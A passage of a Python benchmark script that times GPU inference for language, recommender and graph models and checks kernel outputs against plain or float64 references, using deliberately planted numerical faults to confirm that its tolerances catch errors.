    sms = torch.cuda.get_device_properties(dev).multi_processor_count
    last = s + LM_DECODE - 2
    kernel_fn = attention.flash_decode
    per_sm = blocks_per_sm(cfg.n_heads // cfg.n_kv_heads, cfg.head_dim,
                           cfg.compute_dtype, dev,
                           cfg.attn_softcap is not None)

    def plan(n, window):
        lo = window_start(n, window)
        return (lo, *split_plan(b, cfg.n_kv_heads, n - lo, sms, per_sm))

    def drop_last_split(q, k, v, n, window=None, softcap=None):
        # the window's positions past its first n_splits - 1 splits
        lo, chunk, n_splits = plan(n, window)
        return kernel_fn(q, k, v, lo + (n_splits - 1) * chunk,
                         window=(n_splits - 1) * chunk, softcap=softcap)

    def drop_newest(q, k, v, n, window=None, softcap=None):
        return kernel_fn(q, k, v, n - 1, softcap=softcap,
                         window=None if window is None else window - 1)

    steps = {"kernel": (kernel_fn, cfg.n_layers),
             "plain": (lambda q, k, v, n, window=None, softcap=None:
                       decode_attention(q[:, None], k, v, n, window=window,
                                        attn_softcap=softcap)[:, 0], 0),
             "newest position dropped": (drop_newest, cfg.n_layers)}
    windows = [layer_window(cfg, i) for i in range(cfg.n_layers)]
    if min(plan(last + 1, w)[2] for w in windows) > 1:
        steps["last split dropped"] = (drop_last_split, cfg.n_layers)
    real_top_k = moe.top_k_lower_first
    routes = {"kernel": [], "plain, own routing": []}

    def recording(into):
        def top_k(probs, k):
            vals, idx = real_top_k(probs, k)
            into.append(idx)
            return vals, idx
        return top_k

    def replaying(from_routes):
        it = iter(from_routes)

        def top_k(probs, k):
            idx = next(it)
            return probs.gather(-1, idx), idx
        return top_k

    route = {}
    if cfg.is_moe:
        route = {label: replaying(routes["kernel"]) for label in steps}
        steps["plain, own routing"] = (steps["plain"][0], 0)
        route.update({"kernel": recording(routes["kernel"]),
                      "plain, own routing": recording(
                          routes["plain, own routing"])})
    toks, logits = {}, {}
    with torch.inference_mode():
        for label, (fn, want) in steps.items():
            before = read(counters)["flash_decode"]
            attention.flash_decode = fn
            moe.top_k_lower_first = route.get(label, real_top_k)
            try:
                _, toks[label], logits[label] = decode_step(
                    cfg, params, cache, tokens[-2], last)
            finally:
                attention.flash_decode = kernel_fn
                moe.top_k_lower_first = real_top_k
            moved = read(counters)["flash_decode"] - before
            require(moved == want, f"the {label} decode step launched "
                    f"flash_decode {moved} times, not {want}")
    tok_k, tok_p = toks["kernel"], toks["plain"]
    logits_k, logits_p = logits["kernel"], logits["plain"]
    require(torch.equal(tok_k, tokens[-1]),
            "a repeated decode step chose other tokens")
    require(bool(torch.isfinite(logits_k).all()), "non-finite logits")
    diff = float((logits_k - logits_p).abs().max())
    scale = float(logits_p.std())
    require(diff <= LOGIT_TOL * scale,
            f"decode logits through flash_decode differ from the plain "
            f"version by {diff} (logit std {scale})")
    fault_diff = {label: float((logits[label] - logits_p).abs().max()) / scale
                  for label in steps
                  if label not in ("kernel", "plain", "plain, own routing")}
    # (layer, token) routings whose experts differ between the kernel step
    # and the plain step left to route on its own, and that step's logits
    flips = sum(int((a.sort(-1).values != b.sort(-1).values).any(-1).sum())
                for a, b in zip(*routes.values()))
    own_routing = (float((logits["plain, own routing"] - logits_k).abs().max())
                   / scale if cfg.is_moe else None)
    require(fault_diff.get("last split dropped", 1.0) > LOGIT_TOL,
            f"the decode-logit tolerance passes a kernel with its last split "
            f"dropped ({fault_diff})")
    top2 = logits_p.topk(2, -1).values
    margin = (top2[:, 0] - top2[:, 1]).cpu().numpy()
    differ = (tok_k != tok_p).cpu().numpy()
    require(not (differ & (margin > 2 * diff)).any(),
            "greedy tokens differ where the plain version's margin exceeds "
            "the logit difference")
    del logits
    stage_s = dict(serve=t_checks - t_serve,
                   checks=time.perf_counter() - t_checks)
    mesh_check = None
    if mesh is not None:
        t0 = time.perf_counter()
        mesh_check = mesh_prefill(torch, cfg, params, prompts, mesh,
                                  prefill_logits, prefill_s)
        stage_s["mesh_prefill"] = time.perf_counter() - t0
    # device busy share of one decode step and of one prefill
    with torch.inference_mode():
        t0 = time.perf_counter()
        step_busy = device_busy(torch, lambda: decode_step(
            cfg, params, cache, tokens[-2], last))
        stage_s["profile_step"] = time.perf_counter() - t0
        t0 = time.perf_counter()
        prefill_busy = device_busy(torch, lambda: prefill(
            cfg, params, prompts))
        stage_s["profile_prefill"] = time.perf_counter() - t0
    p50, p99 = percentiles(np, step_ms)
    out = dict(arch=arch, depth=depth, params=n_params, init_s=init_s,
               batch=b, prompt=s, routing_flips=flips,
               own_routing_diff_per_std=own_routing,
               decode_steps=LM_DECODE - 1, prefill_s=prefill_s,
               prefill_tok_s=b * s / prefill_s, step_ms_p50=p50,
               step_ms_p99=p99, tok_s_p50=b / p50 * 1e3,
               tok_s_p99=b / p99 * 1e3, logit_max_diff=diff, logit_std=scale,
               logit_fault_diff_per_std=fault_diff,
               tokens_differ=int(differ.sum()), launches=launches,
               step_profiled_ms=step_busy[0], step_busy_ms=step_busy[1],
               prefill_profiled_ms=prefill_busy[0],
               prefill_busy_ms=prefill_busy[1], mesh_prefill=mesh_check,
               peak_gb=torch.cuda.max_memory_allocated(dev) / 1e9)
    print(f"lm {cfg.name} ({depth}): {n_params / 1e9:.3f}B params (init "
          f"{init_s:.1f} s)"
          f"; prefill {b} x {s} in {prefill_s:.3f} s; decode step p50 "
          f"{p50:.2f} ms p99 {p99:.2f} ms = {out['tok_s_p50']:.0f} / "
          f"{out['tok_s_p99']:.0f} tok/s; kernel vs plain step: max |dlogit| "
          f"{diff:.4g} (std {scale:.4g}, limit {LOGIT_TOL} std), "
          f"{int(differ.sum())} of {b} greedy tokens differ"
          + (f" (MoE: the plain step and the planted faults replay the "
             f"kernel step's routing; "
             f"routing on its own, {flips} of "
             f"{cfg.n_layers * b} (layer, token) routings differ and its "
             f"logits move by {own_routing:.4g} std)" if cfg.is_moe else "")
          + f"; planted faults "
          f"move the logits by {fault_diff} std; launches {launches}; peak "
          f"{out['peak_gb']:.1f} GB; device busy: decode step "
          f"{busy_text(*step_busy)}, prefill {busy_text(*prefill_busy)}",
          flush=True)
    del params, cache
    free(torch)
    out["wall_s"] = time.perf_counter() - t_path
    out["stage_s"] = stage_s
    print(f"lm {cfg.name}: {out['wall_s']:.1f} s in all (init "
          f"{init_s:.1f} s; " + ", ".join(f"{k} {v:.1f} s"
                                          for k, v in stage_s.items())
          + ")", flush=True)
    return out


def _leaves(tree):
    if isinstance(tree, dict):
        for v in tree.values():
            yield from _leaves(v)
    elif isinstance(tree, (list, tuple)):
        for v in tree:
            yield from _leaves(v)
    else:
        yield tree


def request_ms(torch, fn, batches) -> tuple[list, object]:
    """Each ``fn(batch)`` timed on the host's clock to its synchronised end
    (ms), and the last result."""
    ms = []
    for batch in batches:
        t0 = time.perf_counter()
        res = fn(batch)
        torch.cuda.synchronize()
        ms.append((time.perf_counter() - t0) * 1e3)
    return ms, res


# ---------------------------------------------------------------- phase 9
def recsys_path(torch, np, dev, counters, two_tower_cfg=None,
                xdeepfm_cfg=None) -> dict:
    """Two-tower retrieval_cand and xDeepFM serve_p99 at full width, each
    request timed to its synchronised end; each held to its plain version
    on the card.  xDeepFM's init leaves the wide table, cin_out and the bias
    at zero (as the JAX package does); they get seeded values here, so that
    the wide term the kernel computes moves the logits."""
    from dataclasses import replace

    from repro_torch.configs import get_arch
    from repro_torch.device import generator
    from repro_torch.kernels.embedding_bag.ref import embedding_bag_ref
    from repro_torch.kernels.retrieval_score.ops import retrieval_topk
    from repro_torch.launch.steps import family_init, serve_fn
    from repro_torch.models import recsys
    from repro_torch.models.layers import normal

    rng = np.random.default_rng(SEED)
    out = {}
    timed = functools.partial(request_ms, torch)

    # ------------------------------------------------------- two-tower
    spec = get_arch("two-tower-retrieval")
    spec = replace(spec, config=two_tower_cfg or spec.config)
    cfg = spec.config
    t0 = time.perf_counter()
    params = family_init(spec)(generator(SEED, dev))
    init_s = time.perf_counter() - t0
    fn = serve_fn(spec, spec.shape("retrieval_cand"))
    users = [torch.from_numpy(rng.integers(0, cfg.field_vocab, (
        1, cfg.n_user_fields)).astype(np.int32)).to(dev)
        for _ in range(N_RETRIEVAL)]

    def request(user):
        return torch.topk(fn(params, {"user_idx": user}), TOP_K)

    with torch.inference_mode():
        request(users[0])                                   # warm-up
        torch.cuda.synchronize()
        reset(counters)
        ms, _ = timed(request, users)
        launches = read(counters)
        # every request's top-100 against the plain GEMV's
        n_tied = 0
        for user in users:
            vals, ids = request(user)
            u = recsys._user(cfg, params, user)[0].contiguous()
            plain = params["corpus"] @ u
            p_vals, p_ids = torch.topk(plain, TOP_K)
            require(torch.equal(retrieval_topk(params["corpus"], u, TOP_K)[1],
                                ids), "retrieval_topk differs from the path")
            require(torch.allclose(vals, p_vals, rtol=2e-5, atol=1e-6),
                    "two-tower top-100 scores differ from the plain version")
            if not torch.equal(ids, p_ids):
                # ids may swap only among scores tied within tolerance
                odd = set(ids.tolist()) ^ set(p_ids.tolist())
                edge = float(p_vals[-1])
                require(all(abs(float(plain[i]) - edge) <= 1e-6 + 2e-5 * abs(edge)
                            for i in odd) or not odd,
                        "two-tower top-100 ids differ from the plain version")
                n_tied += 1
        busy = device_busy(torch, lambda: request(users[0]))
    p50, p99 = percentiles(np, ms)
    out["two_tower"] = dict(corpus=cfg.n_corpus, dim=cfg.tower_mlp[-1],
                            init_s=init_s, requests=N_RETRIEVAL, top_k=TOP_K,
                            ms_p50=p50, ms_p99=p99, reordered_ties=n_tied,
                            profiled_ms=busy[0], busy_ms=busy[1],
                            launches=launches)
    print(f"two-tower retrieval_cand: corpus {cfg.n_corpus} x "
          f"{cfg.tower_mlp[-1]}, {N_RETRIEVAL} requests, p50 {p50:.3f} ms "
          f"p99 {p99:.3f} ms (top-{TOP_K} equal to the plain version; "
          f"{n_tied} reordered within ties); device busy per request "
          f"{busy_text(*busy)}; launches {launches}", flush=True)
    del params
    free(torch)

    # --------------------------------------------------------- xDeepFM
    spec = get_arch("xdeepfm")
    spec = replace(spec, config=xdeepfm_cfg or spec.config)
    cfg = spec.config
    gen = generator(SEED + 1, dev)
    t0 = time.perf_counter()
    params = family_init(spec)(gen)
    params["wide"] = normal(gen, params["wide"].shape, 0.01)
    params["cin_out"] = normal(gen, params["cin_out"].shape, 0.1)
    params["bias"] = normal(gen, (), 0.1)
    init_s = time.perf_counter() - t0
    fn = serve_fn(spec, spec.shape("serve_p99"))
    batch = spec.shape("serve_p99").dims["batch"]
    idx = [torch.from_numpy(rng.integers(0, cfg.vocab_per_field, (
        batch, cfg.n_sparse)).astype(np.int32)).to(dev) for _ in range(N_SCORE)]

    with torch.inference_mode():
        fn(params, {"idx": idx[0]})                         # warm-up
        torch.cuda.synchronize()
        reset(counters)
        ms, _ = timed(lambda i: fn(params, {"idx": i}), idx)
        launches = read(counters)
        kernel_fn = recsys.embedding_bag_sum
        err = 0.0
        for i in idx[:4]:
            before = read(counters)["embedding_bag"]
            got = fn(params, {"idx": i})
            require(read(counters)["embedding_bag"] == before + 1,
                    "an xDeepFM request did not launch embedding_bag once")
            recsys.embedding_bag_sum = embedding_bag_ref
            try:
                want = fn(params, {"idx": i})
            finally:
                recsys.embedding_bag_sum = kernel_fn
            require(read(counters)["embedding_bag"] == before + 1,
                    "the plain xDeepFM run launched embedding_bag")
            require(bool(torch.isfinite(got).all()) and got.shape == (batch,),
                    "xDeepFM logits are not finite or of the wrong shape")
            require(torch.allclose(got, want, rtol=2e-5, atol=2e-5),
                    "xDeepFM logits through embedding_bag differ from the "
                    "plain version")
            err = max(err, float((got - want).abs().max()))
        busy = device_busy(torch, lambda: fn(params, {"idx": idx[0]}))
    p50, p99 = percentiles(np, ms)
    out["xdeepfm"] = dict(rows=cfg.total_vocab, embed_dim=cfg.embed_dim,
                          init_s=init_s, batch=batch, requests=N_SCORE,
                          ms_p50=p50, ms_p99=p99, max_abs_err=err,
                          profiled_ms=busy[0], busy_ms=busy[1],
                          launches=launches)
    print(f"xdeepfm serve_p99: {cfg.total_vocab} rows x {cfg.embed_dim}, "
          f"batch {batch}, {N_SCORE} requests, p50 {p50:.3f} ms p99 "
          f"{p99:.3f} ms, max |logit err| vs plain {err:.3g}; device busy "
          f"per request {busy_text(*busy)}; launches {launches}", flush=True)
    del params, idx
    free(torch)

    # xDeepFM candidate scoring at smoke size (its CIN over 1M candidates
    # would need about 300 GB), held to its CPU run
    spec = get_arch("xdeepfm")
    spec = replace(spec, config=spec.smoke_config)
    cfg = spec.config
    params = family_init(spec)(generator(SEED + 2, "cpu"))
    params["wide"] = normal(generator(SEED + 3, "cpu"), params["wide"].shape,
                            0.01)
    fn = serve_fn(spec, spec.shape("retrieval_cand"))
    one = torch.from_numpy(rng.integers(0, cfg.vocab_per_field, (
        1, cfg.n_sparse)).astype(np.int32))
    cand = torch.from_numpy(rng.integers(0, cfg.vocab_per_field, 1000)
                            .astype(np.int32))
    with torch.inference_mode():
        want = fn(params, {"idx": one, "cand": cand})
        on_card = {k: (v.to(dev) if isinstance(v, torch.Tensor)
                       else [x.to(dev) for x in v] if isinstance(v, list)
                       else {kk: vv.to(dev) for kk, vv in v.items()})
                   for k, v in params.items()}
        got = fn(on_card, {"idx": one.to(dev), "cand": cand.to(dev)})
    require(torch.allclose(got.cpu(), want, rtol=2e-5, atol=2e-5),
            "xDeepFM candidate scoring on the card differs from its CPU run")
    print(f"xdeepfm retrieval at smoke size: {cand.numel()} candidates equal "
          f"to the CPU run", flush=True)
    return out


# ---------------------------------------------------------------- phase 10
def cast_tree(tree, fn):
    """``tree`` (dicts and lists of tensors) with ``fn`` applied to each
    floating tensor."""
    if isinstance(tree, dict):
        return {k: cast_tree(v, fn) for k, v in tree.items()}
    if isinstance(tree, (list, tuple)):
        return [cast_tree(v, fn) for v in tree]
    return fn(tree) if tree.is_floating_point() else tree


def per_std(got, want) -> float:
    """max |got - want| in units of ``want``'s std (NaN anywhere reads
    inf)."""
    diff = float((got.double() - want).abs().max())
    return diff / float(want.std()) if diff == diff else float("inf")


def hold_f64(torch, what, run, faults) -> dict:
    """Hold ``run()`` (f32, on the card) to ``run(f64=True)`` within
    F64_TOL std, and require each planted fault (name -> a callable that
    runs the faulty f32 model) to read past FAULT_MARGIN x F64_TOL."""
    want = run(f64=True)
    got = run()
    require(bool(torch.isfinite(got).all()) and got.shape == want.shape,
            f"{what}: not finite or of the wrong shape")
    err = per_std(got, want)
    require(err <= F64_TOL, f"{what}: f32 differs from f64 by {err:.3g} std "
            f"(limit {F64_TOL})")
    readings = {name: per_std(fault(), want) for name, fault in faults.items()}
    print(f"{what}: f32 against f64 {err:.3g} std (limit {F64_TOL})" + (
        "; planted faults " + ", ".join(f"{n} {r:.4g} std"
                                        for n, r in readings.items())
        + f" (each required past {FAULT_MARGIN * F64_TOL:g})"
        if readings else ""), flush=True)
    for name, r in readings.items():
        require(r > FAULT_MARGIN * F64_TOL,
                f"{what}: the planted fault '{name}' reads {r:.3g} std, "
                f"within {FAULT_MARGIN} x the limit")
    return dict(f64_diff_per_std=err, faults_per_std=readings)


def top_text(top) -> str:
    """The longest TOP_KERNELS device kernels of a ``device_busy`` top."""
    return "; ".join(f"{name[:60]} {ms:.3f} ms" for name, ms in
                     top[:TOP_KERNELS]) or "no kernels seen"


def left_padded(np, rng, n_items, b, seq_len):
    """(b, seq_len) int32 item ids left-padded (0) to lengths drawn over
    1..seq_len."""
    lens = rng.integers(1, seq_len + 1, b)
    seq = rng.integers(1, n_items, (b, seq_len)).astype(np.int32)
    seq[np.arange(seq_len)[None, :] < (seq_len - lens)[:, None]] = 0
    return seq


def seq_recsys_path(torch, np, dev, counters, sasrec_cfg=None,
                    mind_cfg=None) -> dict:
    """SASRec and MIND at full width, one after the other: serve_p99 (512
    left-padded sequences, 1024 candidates each) and retrieval_cand (one
    user against 1,048,576 candidates, top-100), each request timed to its
    synchronised end, held to its float64 run, with the planted faults
    (SASRec: causal mask dropped, padding mask dropped; MIND: validity mask
    dropped).  Neither model reaches a kernel: the path must launch none."""
    from dataclasses import replace

    from repro_torch.configs import get_arch, mind, sasrec
    from repro_torch.device import generator
    from repro_torch.launch.steps import family_init, serve_fn
    from repro_torch.models import recsys

    rng = np.random.default_rng(SEED)
    out = {}

    def ids(a):
        return torch.from_numpy(a).to(dev)

    def swapped(name, fn, run):
        """``run`` with ``recsys.<name>`` replaced by ``fn``."""
        def go():
            kept = getattr(recsys, name)
            setattr(recsys, name, fn)
            try:
                return run()
            finally:
                setattr(recsys, name, kept)
        return go

    def no_pad(seq):
        return torch.ones_like(seq, dtype=torch.bool)

    def no_causal(l, device):
        return torch.ones(l, l, dtype=torch.bool, device=device)

    for k, (arch, cfg, n_cands) in enumerate((
            ("sasrec", sasrec_cfg, sasrec.SERVE_CANDS),
            ("mind", mind_cfg, mind.SERVE_CANDS))):
        spec = get_arch(arch)
        spec = replace(spec, config=cfg or spec.config)
        cfg = spec.config
        torch.cuda.reset_peak_memory_stats()
        t0 = time.perf_counter()
        params = family_init(spec)(generator(SEED + 10 + k, dev))
        torch.cuda.synchronize()
        init_s = time.perf_counter() - t0
        res = dict(items=cfg.n_items, dim=cfg.embed_dim, init_s=init_s)
        n_cand = spec.shape("retrieval_cand").dims["n_candidates"]
        b = spec.shape("serve_p99").dims["batch"]
        serve = [{"seq": ids(left_padded(np, rng, cfg.n_items, b,
                                         cfg.seq_len)),
                  "cand": ids(rng.integers(1, cfg.n_items, (b, n_cands))
                              .astype(np.int32))}
                 for _ in range(SEQ_REQUESTS)]
        corpus = ids(rng.integers(1, cfg.n_items, n_cand).astype(np.int32))
        users = [{"seq": ids(left_padded(np, rng, cfg.n_items, 1,
                                         cfg.seq_len)), "cand": corpus}
                 for _ in range(SEQ_REQUESTS)]
        for shape, batches, top in (("serve_p99", serve, False),
                                    ("retrieval_cand", users, True)):
            fn = serve_fn(spec, spec.shape(shape))

            def request(batch, fn=fn, top=top):
                scores = fn(params, batch)
                return torch.topk(scores, TOP_K) if top else scores

            with torch.inference_mode():
                request(batches[0])                         # warm-up
                torch.cuda.synchronize()
                reset(counters)
                ms, _ = request_ms(torch, request, batches)
                launches = read(counters)
                require(not any(launches.values()),
                        f"{arch} {shape} launched a kernel: {launches}")
                top = []
                busy = device_busy(torch, lambda: request(batches[0]),
                                   top=top)
                p64 = cast_tree(params, lambda t: t.double())

                def run(f64=False, fn=fn, batch=batches[0]):
                    return fn(p64 if f64 else params, batch)

                faults = {}
                if shape == "serve_p99":
                    faults["validity mask dropped" if arch == "mind"
                           else "padding mask dropped"] = swapped(
                        "_valid", no_pad, run)
                    if arch == "sasrec":
                        faults["causal mask dropped"] = swapped(
                            "_causal", no_causal, run)
                held = hold_f64(torch, f"{arch} {shape}", run, faults)
                del p64
            p50, p99 = percentiles(np, ms)
            res[shape] = dict(requests=len(batches), ms_p50=p50, ms_p99=p99,
                              profiled_ms=busy[0], busy_ms=busy[1],
                              top_kernels=top[:TOP_KERNELS], **held)
            print(f"{arch} {shape}: {len(batches)} requests, p50 {p50:.3f} "
                  f"ms p99 {p99:.3f} ms; device busy per request "
                  f"{busy_text(*busy)} ({top_text(top)}); launches none",
                  flush=True)
        res["peak_gb"] = torch.cuda.max_memory_allocated() / 1e9
        print(f"{arch}: {cfg.n_items} x {cfg.embed_dim} items, init "
              f"{init_s:.3f} s, peak {res['peak_gb']:.2f} GB", flush=True)
        out[arch] = res
        del params, serve, users, corpus
        free(torch)
    return out


def reddit_like_csr(np, rng, n_nodes, n_edges):
    """A CSR graph of ``n_nodes`` nodes and about ``n_edges`` edges: degrees
    geometric around the mean (a few nodes below the fanouts),
    ``indptr = cumsum(deg)``, neighbours drawn uniformly (int32)."""
    deg = rng.geometric(n_nodes / n_edges, n_nodes)
    indptr = np.zeros(n_nodes + 1, np.int64)
    np.cumsum(deg, out=indptr[1:])
    return indptr, rng.integers(0, n_nodes, int(indptr[-1]), dtype=np.int32)


def padded_graph(torch, np, gen, dev, snd, rcv, n_real, dims, d_edge_in):
    """A padded graph on the card: features N(0, 1) drawn from ``gen`` for
    the ``n_real`` nodes and ``len(snd)`` edges, zeros past them; padded
    edges run from node 0 to node 0 and are masked, so that only the mask
    keeps them out of node 0's sum."""
    n, e = dims["n_nodes"], dims["n_edges"]
    e_real = len(snd)
    require(n_real <= n and e_real <= e,
            f"a graph of {n_real} nodes, {e_real} edges past its shape's "
            f"{n} / {e}")

    def feats(rows, real, d):
        x = torch.zeros(rows, d, device=dev)
        x[:real] = torch.randn(real, d, generator=gen, device=dev)
        return x

    def index(a):
        full = np.zeros(e, np.int32)
        full[:e_real] = a
        return torch.from_numpy(full).to(dev)

    return {"nodes": feats(n, n_real, dims["d_feat"]),
            "edges": feats(e, e_real, d_edge_in),
            "senders": index(snd), "receivers": index(rcv),
            "edge_mask": (torch.arange(e, device=dev) < e_real).float(),
            "node_mask": (torch.arange(n, device=dev) < n_real).float()}


def gnn_path(torch, np, dev, counters, cfg=None, shapes=None,
             graph_size=(REDDIT_NODES, REDDIT_EDGES)) -> dict:
    """MeshGraphNet's forward pass at its full config over three of its
    shapes: minibatch_lg from ``neighbor_sample`` (1024 seeds, fanout 15-10)
    over a synthetic CSR graph of ``graph_size``, padded to the shape;
    full_graph_sm (uniform random edges); molecule (128 disjoint graphs).
    Each timed over GNN_RUNS runs, held to its float64 run, with the planted
    faults (``edge_mask`` ignored where edges are padded; the last processor
    layer skipped).  It launches no kernel.  ``cfg``, ``shapes`` and
    ``graph_size`` shrink it when rehearsing on the CPU."""
    from dataclasses import replace

    from repro_torch.configs import get_arch
    from repro_torch.device import generator
    from repro_torch.launch.steps import _gnn_cfg_for_shape, family_init
    from repro_torch.models import gnn

    spec = get_arch("meshgraphnet")
    base, shapes = cfg or spec.config, shapes or spec.shapes
    rng = np.random.default_rng(SEED)
    gen = generator(SEED + 20, dev)
    out = {}

    t0 = time.perf_counter()
    indptr, indices = reddit_like_csr(np, rng, *graph_size)
    build_s = time.perf_counter() - t0
    t0 = time.perf_counter()
    seeds = rng.choice(graph_size[0], GNN_SEEDS, replace=False)
    nodes, snd, rcv = gnn.neighbor_sample(indptr, indices, seeds,
                                          list(GNN_FANOUTS), rng)
    sample_s = time.perf_counter() - t0
    out["sampler"] = dict(graph_nodes=graph_size[0],
                          graph_edges=int(indptr[-1]), build_s=build_s,
                          sample_s=sample_s, nodes=len(nodes), edges=len(snd))
    print(f"meshgraphnet sampler: CSR of {graph_size[0]} nodes, "
          f"{int(indptr[-1])} edges built in {build_s:.2f} s; "
          f"neighbor_sample of {GNN_SEEDS} seeds, fanout "
          f"{'-'.join(map(str, GNN_FANOUTS))}: {len(nodes)} nodes, "
          f"{len(snd)} edges in {sample_s:.2f} s (host)", flush=True)
    del indptr, indices

    n_sm = shapes["full_graph_sm"].dims["n_nodes"]
    n_edges_sm = min(CORA_EDGES, shapes["full_graph_sm"].dims["n_edges"])
    offs = np.repeat(np.arange(MOLECULES) * MOLECULE_NODES, MOLECULE_EDGES)
    graphs = {
        "minibatch_lg": (snd, rcv, len(nodes)),
        "full_graph_sm": (rng.integers(0, n_sm, n_edges_sm),
                          rng.integers(0, n_sm, n_edges_sm), n_sm),
        "molecule": (offs + rng.integers(0, MOLECULE_NODES, offs.size),
                     offs + rng.integers(0, MOLECULE_NODES, offs.size),
                     MOLECULES * MOLECULE_NODES)}
    for name, (s, r, n_real) in graphs.items():
        shape = shapes[name]
        cfg = _gnn_cfg_for_shape(base, shape)
        torch.cuda.reset_peak_memory_stats()
        params = family_init(spec, cfg_override=cfg)(gen)
        graph = padded_graph(torch, np, gen, dev, s, r, n_real, shape.dims,
                             cfg.d_edge_in)
        with torch.inference_mode():
            gnn.forward(cfg, params, graph)                 # warm-up
            torch.cuda.synchronize()
            reset(counters)
            ms, res = request_ms(torch, lambda g: gnn.forward(cfg, params, g),
                                 [graph] * GNN_RUNS)
            launches = read(counters)
            require(not any(launches.values()),
                    f"meshgraphnet {name} launched a kernel: {launches}")
            require(not bool(res[n_real:].any()),
                    f"meshgraphnet {name}: padded nodes' output is not zero")
            top = []
            busy = device_busy(torch, lambda: gnn.forward(cfg, params, graph),
                               top=top)
            p64 = cast_tree(params, lambda t: t.double())
            g64 = cast_tree(graph, lambda t: t.double())

            def run(f64=False, cfg=cfg, params=params, graph=graph):
                return gnn.forward(cfg, p64 if f64 else params,
                                   g64 if f64 else graph)

            shallow = dict(params, **{k: {w: t[:-1] for w, t in
                                          params[k].items()}
                                      for k in ("edge_mlp", "node_mlp")})
            faults = {"last layer skipped": lambda: gnn.forward(
                replace(cfg, n_layers=cfg.n_layers - 1), shallow, graph)}
            if len(s) < shape.dims["n_edges"]:
                faults["edge_mask ignored"] = lambda: gnn.forward(
                    cfg, params, dict(graph, edge_mask=torch.ones_like(
                        graph["edge_mask"])))
            held = hold_f64(torch, f"meshgraphnet {name}", run, faults)
            del p64, g64
        p50, p99 = percentiles(np, ms)
        peak = torch.cuda.max_memory_allocated() / 1e9
        out[name] = dict(nodes=n_real, edges=len(s), **shape.dims,
                         runs=GNN_RUNS, ms_p50=p50, ms_p99=p99, peak_gb=peak,
                         profiled_ms=busy[0], busy_ms=busy[1],
                         top_kernels=top[:TOP_KERNELS], **held)
        print(f"meshgraphnet {name}: {n_real} of {shape.dims['n_nodes']} "
              f"nodes, {len(s)} of {shape.dims['n_edges']} edges, d_feat "
              f"{shape.dims['d_feat']}, {cfg.n_layers} layers: forward p50 "
              f"{p50:.3f} ms p99 {p99:.3f} ms over {GNN_RUNS} runs, peak "
              f"{peak:.2f} GB; device busy per forward {busy_text(*busy)} "
              f"({top_text(top)}); launches none", flush=True)
        del params, graph
        free(torch)
    return out


# ---------------------------------------------------------------- phase 11
@contextlib.contextmanager
def swapped(owner, name, value):
    """``owner.name`` replaced by ``value`` inside the block."""
    old = getattr(owner, name)
    setattr(owner, name, value)
    try:
        yield
    finally:
        setattr(owner, name, old)


def ebag_adds(torch, go, idx, rows):
    """(additions, sum of their magnitudes) into each word of the table's
    gradient, from the plain version."""
    from repro_torch.kernels.embedding_bag.ref import embedding_bag_backward_ref
    return (embedding_bag_backward_ref(torch.ones_like(go), idx, rows),
            embedding_bag_backward_ref(go.abs(), idx, rows))


def plain_store_backward(torch, dev):
    """The backward kernel built with a plain store in place of its
    ``atomicAdd`` (a copy of the source under ``build/``): the planted fault
    that loses every addition but one into a word."""
    import ctypes

    from repro_torch.kernels import build
    src = (build.CSRC / "embedding_bag.cu").read_text()
    require(src.count("atomicAdd(") == 1,
            "embedding_bag.cu no longer holds one atomicAdd to replace")
    path = ROOT / "build" / "ebag_fault" / "embedding_bag_plain_store.cu"
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text("__device__ __forceinline__ void plain_store(float* p, "
                    "float v) { *p = v; }\n"
                    + src.replace("atomicAdd(", "plain_store("))
    lib, _ = build.build_variants([path])[path.name]
    p = ctypes.c_void_p
    fn = build.declare(lib, "embedding_bag_backward_launch", p, p,
                       ctypes.c_int, ctypes.c_int, ctypes.c_int,
                       ctypes.c_longlong, p, p)

    def run(go, idx, rows):
        grad = torch.empty((rows, go.shape[1]), dtype=torch.float32,
                           device=dev)
        build.check(lib, fn(go.data_ptr(), idx.data_ptr(), idx.shape[0],
                            idx.shape[1], go.shape[1], rows, grad.data_ptr(),
                            build.stream_of(go)), "plain-store backward")
        return grad
    return run


def check_ebag_backward(torch, np, dev) -> dict:
    """``embedding_bag_backward`` against its plain version
    (``embedding_bag_backward_ref``: a zeroed table and ``index_add_``) on the
    card, at xDeepFM train_batch's wide term and at the edges: D 17 and 33,
    BAG 1 and 70, B 1, every id equal (the worst collision), a gradient
    view off 16-byte alignment over a prime V.  Tolerance per word of the
    table: rtol 1e-6 plus 4 x 2^-24 x sqrt(c) x S, where c is the count of
    additions into the word and S the sum of their magnitudes: the
    rounding of c f32 additions in any order (the kernel's atomics and the
    plain version's each take their own), with a margin of 4.  The kernel
    rebuilt with a plain store in place of its atomicAdd must read past
    FAULT_MARGIN x that on every case with a repeated id.  Timed beside
    one ``index_add_`` into a zeroed table (its ids and rows laid out once,
    outside the timing)."""
    from repro_torch.device import generator
    from repro_torch.kernels.embedding_bag.ops import embedding_bag_backward
    from repro_torch.kernels.embedding_bag.ref import \
        embedding_bag_backward_ref

    gen = generator(SEED + 11, dev)

    def case(v, d, b, bag, fields, same=False, offset=0):
        ids = torch.randint(0, v // fields, (b, bag), generator=gen,
                            device=dev, dtype=torch.int32)
        if fields > 1:
            ids += torch.arange(bag, device=dev, dtype=torch.int32) \
                * (v // fields)
        if same:
            ids.fill_(v // 2)
        buf = torch.randn(b * d + offset, generator=gen, device=dev)
        go = buf[offset:].view(b, d)
        dups = b * bag - int(torch.unique(ids).numel())
        label = (f"V={v} D={d} B={b} BAG={bag}" + (" all ids equal" if same
                                                   else "")
                 + (" grad_out unaligned" if offset else "")
                 + f" ({dups} repeated ids)")
        return go, ids.contiguous(), v, label

    cases = ([case(*s) for s in EBAG_BACK_SHAPES]
             + [case(1000, 2, 8192, 8, 1, same=True),
                case(99_991, 3, 1000, 7, 1, offset=1)])
    require(cases[1][0].data_ptr() % 16 == 0
            and cases[-1][0].data_ptr() % 16 != 0,
            "the unaligned case is not off 16-byte alignment")
    fault = plain_store_backward(torch, dev)

    def tol(go, idx, rows, _, want):
        c, s = ebag_adds(torch, go, idx, rows)
        return 1e-6, 4 * 2 ** -24 * c.sqrt() * s

    def faults(go, idx, rows, _):
        if idx.numel() > int(torch.unique(idx).numel()):
            yield "plain store for atomicAdd", fault(go, idx, rows)

    laid_out = {}

    def library(go, idx, rows, label):
        if label not in laid_out:
            b, bag = idx.shape
            laid_out[label] = (idx.reshape(-1).long(), go[:, None, :].expand(
                b, bag, go.shape[1]).reshape(b * bag, go.shape[1]))
        ids, src = laid_out[label]
